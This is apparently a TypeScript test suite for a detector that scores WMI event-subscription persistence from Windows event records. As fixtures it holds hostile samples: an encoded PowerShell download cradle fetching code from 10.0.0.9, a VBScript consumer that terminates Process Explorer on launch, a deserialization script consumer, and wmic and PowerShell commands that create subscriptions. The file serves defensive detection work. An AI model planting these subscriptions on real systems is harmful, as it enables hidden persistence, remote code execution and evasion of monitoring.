import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assembled, onlyDossier, sumOf } from '../../test/assembled.ts';
import { type EventModel, powershell, security, sysmon, wmi } from '../../testkit/index.ts';

const USER = 'S-1-5-21-1-2-3-1104';
const ALICE = { sid: USER, name: 'alice', domain: 'CORP' };
const BOOT_WINDOW =
  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";
const NOTEPAD_START = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'";

function at(time: string, computer?: string): { time: string; computer?: string } {
  return { time: `2026-03-12T${time}Z`, ...(computer === undefined ? {} : { computer }) };
}

/** The three Sysmon records of one write, 100 ms apart. */
function triad(
  facts: { query: string; destination: string; type?: 'Command Line' | 'Script'; name?: string; consumer?: string },
  time: string,
  operation: 'Created' | 'Deleted' = 'Created',
): EventModel[] {
  const name = facts.name ?? 'Updater';
  const consumer = facts.consumer ?? name;
  const consumerClass = facts.type === 'Script' ? 'ActiveScriptEventConsumer' : 'CommandLineEventConsumer';
  return [
    sysmon.filter({ name, query: facts.query, operation }, at(`${time}.1000000`)),
    sysmon.consumer(
      { name: consumer, destination: facts.destination, type: facts.type ?? 'Command Line', operation },
      at(`${time}.2000000`),
    ),
    sysmon.binding({ filter: name, consumer, consumerClass, operation }, at(`${time}.3000000`)),
  ];
}

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

test('Example 1: the SCM subscription with exact content is informational', () => {
  const dossier = onlyDossier([wmi.scmBinding(at('09:00:00'))]);
  assert.equal(sumOf(dossier), 'CT6 0 + TR3 8 + BN1 -100 = 0 informational');
  assert.equal(dossier.baseline.known, true);
});

const BVT_QUERY =
  'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_Processor" AND TargetInstance.LoadPercentage > 99';

test('Example 2: the BVT subscription with exact content is informational', () => {
  const dossier = onlyDossier([
    wmi.binding(
      { name: 'BVTFilter', query: BVT_QUERY, eventNamespace: 'root\\cimv2' },
      {
        class: 'CommandLineEventConsumer',
        name: 'BVTConsumer',
        properties: { CommandLineTemplate: 'cscript KernCap.vbs', WorkingDirectory: 'C:\\\\tools\\\\kernrate' },
      },
      at('09:00:00'),
    ),
  ]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR9 3 + P03 8 + BN1 -100 = 0 informational');
});

test('Example 3: the BVT name with an encoded cradle on a boot window is a masquerade, and critical', () => {
  const cradle = encoded("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')");
  const dossier = onlyDossier([
    wmi.binding(
      { name: 'BVTFilter', query: BOOT_WINDOW, eventNamespace: 'root\\cimv2' },
      {
        class: 'CommandLineEventConsumer',
        name: 'BVTConsumer',
        properties: { CommandLineTemplate: `powershell -enc ${cradle}` },
      },
      at('09:00:00'),
    ),
  ]);
  const payload = dossier.verdict.terms.filter(({ code }) => code.startsWith('P')).reduce((n, t) => n + t.points, 0);
  assert.equal(payload, 40);
  const others = dossier.verdict.terms.filter(({ code }) => !code.startsWith('P'));
  assert.deepEqual(
    others.map(({ code, points }) => [code, points]),
    [
      ['BASE', 0],
      ['CT2', 20],
      ['TR1', 10],
      ['MQ1', 35],
    ],
  );
  assert.deepEqual([dossier.verdict.score, dossier.verdict.level], [100, 'critical']);
});

test('Example 4: a local notepad.exe on a boot window, removed after 125 s, is medium', () => {
  const facts = { query: BOOT_WINDOW, destination: 'C:\\Windows\\System32\\notepad.exe' };
  const dossier = onlyDossier([...triad(facts, '09:00:00'), ...triad(facts, '09:02:05', 'Deleted')]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR1 10 + LF1 15 = 45 medium');
});

test('Example 5: Evil Persistence, local with an encoded command, is high', () => {
  const destination = `powershell -Sta -Nop -Window Hidden -EncodedCommand ${encoded('Write-Output 1')}`;
  const dossier = onlyDossier(triad({ name: 'Evil Persistence', query: NOTEPAD_START, destination }, '09:00:00'));
  assert.equal(sumOf(dossier), 'CT2 20 + TR3 8 + P01 25 + P02 5 + P03 8 = 66 high');
});

test('Example 6: a remote script that fired and was deleted after 50 s is critical; J12 alone is strong', () => {
  const facts = {
    name: 'WSUS_QQTJ7',
    consumer: 'WSUS_RP5ZB',
    type: 'Script' as const,
    query: "select * from __InstanceCreationEvent within 5 where TargetInstance Isa 'Win32_LogonSession'",
    destination:
      'Dim x: Set x = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")\r\nExecute x.Deserialize_2(y)',
  };
  const dossier = onlyDossier([
    security.logon({ account: ALICE, logonId: 0xa1n, address: '10.0.0.7', port: 50001 }, at('08:59:59.9000000')),
    ...triad(facts, '09:00:00'),
    sysmon.process(
      {
        pid: 4711,
        image: 'C:\\Windows\\System32\\wbem\\scrcons.exe',
        commandLine: 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding',
        parentImage: 'C:\\Windows\\System32\\svchost.exe',
      },
      at('09:00:20'),
    ),
    ...triad(facts, '09:00:50', 'Deleted'),
  ]);
  const codes = dossier.verdict.terms.filter(({ code }) => !code.startsWith('P'));
  assert.deepEqual(
    codes.map(({ code, points }) => `${code} ${points}`),
    ['BASE 0', 'CT1 25', 'TR2 10', 'OR1 20', 'LF1 15', 'LF2 10'],
  );
  assert.deepEqual([dossier.verdict.score, dossier.verdict.level], [100, 'critical']);
  assert.deepEqual(dossier.origin.source, { address: '10.0.0.7' });
});

const WMIC = 'C:\\Windows\\System32\\wbem\\WMIC.exe';

function wmic(pid: number, object: string, time: string): EventModel {
  const commandLine = `"${WMIC}" /namespace:"\\\\root\\subscription" PATH ${object}`;
  return sysmon.process({ pid, image: WMIC, commandLine, user: 'CORP\\alice', logonId: 0x14591n }, at(time));
}

test('Example 10: the WinPwnage pair, written by wmic.exe, fired and removed after 32 s, is high', () => {
  const query =
    "SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
  const facts = {
    name: 'BotFilter82',
    consumer: 'BotConsumer23',
    query,
    destination: 'c:\\Windows\\System32\\cmd.exe',
  };
  const dossier = onlyDossier([
    wmic(
      3184,
      'CommandLineEventConsumer CREATE Name="BotConsumer23", ExecutablePath="c:\\Windows\\System32\\cmd.exe", CommandLineTemplate="c:\\Windows\\System32\\cmd.exe"',
      '08:59:59.9000000',
    ),
    ...triad(facts, '09:00:00'),
    sysmon.process(
      {
        pid: 2544,
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'c:\\Windows\\System32\\cmd.exe',
        parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      },
      at('09:00:27'),
    ),
    ...triad(facts, '09:00:32', 'Deleted'),
  ]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR6 5 + OR2 15 + P03 8 + LF1 15 + LF2 10 = 73 high');
});

const KILLER = `Dim oLocation, oServices, oProcessList, oProcess
Set oLocation = CreateObject("WbemScripting.SWbemLocator")
Set oServices = oLocation.ConnectServer(, "root\\cimv2")
Set oProcessList = oServices.ExecQuery("SELECT * FROM Win32_Process WHERE ProcessID = " & TargetEvent.ProcessID)
For Each oProcess in oProcessList
  oProcess.Terminate()
Next`;

const KILLER_FILTER = {
  name: 'ProcessStartTrigger',
  query: "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'",
  eventNamespace: 'root\\cimv2',
  creatorSid: USER,
};
const KILLER_CONSUMER = {
  class: 'ActiveScriptEventConsumer',
  name: 'KillProcess',
  properties: { ScriptingEngine: 'VBScript', ScriptText: KILLER },
  creatorSid: USER,
};

test('Example 11: a script that ends procexp64.exe is high, also with the PowerShell that created it', () => {
  const stored = wmi.binding(KILLER_FILTER, KILLER_CONSUMER, at('09:00:01'));
  assert.equal(sumOf(onlyDossier([stored])), 'CT1 25 + TR3 8 + S15 10 + P18 20 = 63 high');
  const creating = powershell.scriptBlock(
    {
      text: `$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='ProcessStartTrigger'; EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query="SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'"}`,
    },
    at('09:00:00'),
  );
  assert.equal(sumOf(onlyDossier([creating, stored])), 'CT1 25 + TR3 8 + S15 10 + OR2 15 + P18 20 = 78 high');
});

test('Example 12: filter and consumer without a binding and without a writer process are medium', () => {
  const dossier = onlyDossier([
    sysmon.consumer(
      { name: 'Evil', destination: 'cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt' },
      at('09:00:00'),
    ),
    sysmon.filter({ name: 'Evil', query: NOTEPAD_START }, at('09:00:00.2000000')),
    sysmon.filter({ name: 'Evil', query: NOTEPAD_START }, at('09:00:00.3520000')),
  ]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR3 8 + P03 8 + P06 10 = 46 medium');
  assert.deepEqual(dossier.binding, { inferred: true });
  assert.equal(dossier.state, 'unknown');
});

test('A7: a consumer whose content nobody saw prints BASE 40 in place of its class', () => {
  const dossier = onlyDossier([sysmon.binding({ filter: 'Updater', consumer: 'Updater' }, at('09:00:00'))]);
  assert.deepEqual(
    dossier.verdict.terms.map(({ code, points, text }) => ({ code, points, text })),
    [{ code: 'BASE', points: 40, text: 'content unknown' }],
  );
  assert.equal(dossier.verdict.level, 'medium');
});

test('C11: a filter alone keeps the level of an orphan', () => {
  const dossier = onlyDossier([sysmon.filter({ name: 'Updater', query: NOTEPAD_START }, at('09:00:00'))]);
  assert.equal(sumOf(dossier), 'BASE 20 + TR3 8 = 28 low');
  assert.equal(dossier.binding, undefined);
});

test('OR6: another namespace of storage than root\\subscription counts, also root\\default', () => {
  const models = ['root\\default', 'root\\cimv2', 'root\\subscription'].map((namespace, i) =>
    wmi.binding(
      { name: `F${i}`, query: NOTEPAD_START, eventNamespace: 'root\\cimv2' },
      { class: 'CommandLineEventConsumer', name: `C${i}`, properties: { CommandLineTemplate: 'notepad.exe' } },
      { ...at(`09:00:0${i}`), namespace: `//./${namespace.replaceAll('\\', '/')}` },
    ),
  );
  assert.deepEqual(
    assembled(models).map((dossier) => [dossier.namespace, sumOf(dossier)]),
    [
      ['root\\default', 'CT2 20 + TR3 8 + OR6 15 = 43 medium'],
      ['root\\cimv2', 'CT2 20 + TR3 8 + OR6 15 = 43 medium'],
      ['root\\subscription', 'CT2 20 + TR3 8 = 28 low'],
    ],
  );
});

test('OR4 and C16: the shape of wmipersist adds 15, its timer 10', () => {
  const sid = 'S-1-5-32-544';
  const dossier = onlyDossier([
    wmi.binding(
      {
        name: 'EF_upd',
        query: 'select * from __TimerEvent where TimerID = "TI_upd" ',
        eventNamespace: 'root\\subscription',
        creatorSid: sid,
      },
      {
        class: 'ActiveScriptEventConsumer',
        name: 'upd',
        properties: { ScriptingEngine: 'VBScript', ScriptText: 'x = 1' },
        creatorSid: sid,
      },
      at('09:00:00.5000000'),
    ),
    sysmon.binding(
      { filter: 'EF_upd', consumer: 'upd', consumerClass: 'ActiveScriptEventConsumer' },
      at('09:00:00.4000000'),
    ),
  ]);
  assert.equal(sumOf(dossier), 'CT1 25 + TR4 8 + C16 10 + OR4 15 = 58 medium');
});

test('LF3: what is created again after its removal earns 20', () => {
  const facts = { query: NOTEPAD_START, destination: 'notepad.exe' };
  const dossier = onlyDossier([
    ...triad(facts, '09:00:00'),
    ...triad(facts, '09:30:00', 'Deleted'),
    ...triad(facts, '09:31:00'),
  ]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR3 8 + LF3 20 = 48 medium');
  assert.equal(dossier.state, 'armed');
});

test('LF4: a benign subscription whose consumer was re-filled earns 25 and shows what it held', () => {
  const filter = { name: 'BVTFilter', query: BVT_QUERY, eventNamespace: 'root\\cimv2' };
  const consumer = (template: string, folder: string) => ({
    class: 'CommandLineEventConsumer',
    name: 'BVTConsumer',
    properties: { CommandLineTemplate: template, WorkingDirectory: folder },
  });
  const dossier = onlyDossier([
    wmi.binding(filter, consumer('cscript KernCap.vbs', 'C:\\\\tools\\\\kernrate'), at('09:00:00')),
    wmi.binding(filter, consumer('notepad.exe', 'C:\\'), at('11:00:00')),
  ]);
  assert.equal(sumOf(dossier), 'CT2 20 + TR9 3 + LF4 25 + MQ1 35 = 83 critical');
  assert.deepEqual(
    dossier.otherContents.map(({ part, kind, payload, benign }) => ({ part, kind, payload, benign })),
    [{ part: 'consumer', kind: 'earlier', payload: 'cscript KernCap.vbs', benign: true }],
  );
});

test('SP1: the same content on two hosts earns 10 on each, on five 20, whatever the names', () => {
  const on = (count: number): string[] =>
    assembled(
      Array.from({ length: count }, (_, i) =>
        wmi.binding(
          { name: `F${i}`, query: NOTEPAD_START, eventNamespace: 'root\\cimv2' },
          { class: 'CommandLineEventConsumer', name: `C${i}`, properties: { CommandLineTemplate: 'notepad.exe' } },
          at(`09:00:0${i}`, `WS-0${i}.corp.example.com`),
        ),
      ),
    ).map(sumOf);
  assert.deepEqual(on(1), ['CT2 20 + TR3 8 = 28 low']);
  assert.deepEqual(on(2), Array(2).fill('CT2 20 + TR3 8 + SP1 10 = 38 medium'));
  assert.deepEqual(on(4), Array(4).fill('CT2 20 + TR3 8 + SP1 10 = 38 medium'));
  assert.deepEqual(on(5), Array(5).fill('CT2 20 + TR3 8 + SP1 20 = 48 medium'));
});

test('TR10: a watchdog on WMI objects earns 15, but nothing for an event log consumer', () => {
  const query = "SELECT * FROM __InstanceDeletionEvent WITHIN 5 WHERE TargetInstance ISA '__EventFilter'";
  const watch = (className: string, properties: Record<string, string>): string =>
    sumOf(
      onlyDossier([
        wmi.binding(
          { name: 'W', query, eventNamespace: 'root\\subscription' },
          { class: className, name: 'W', properties },
          at('09:00:00'),
        ),
      ]),
    );
  assert.equal(
    watch('CommandLineEventConsumer', { CommandLineTemplate: 'notepad.exe' }),
    'CT2 20 + TR10 15 = 35 medium',
  );
  assert.equal(watch('NTEventLogEventConsumer', { SourceName: 'Monitor' }), 'CT6 0 + TR10 0 = 0 informational');
});
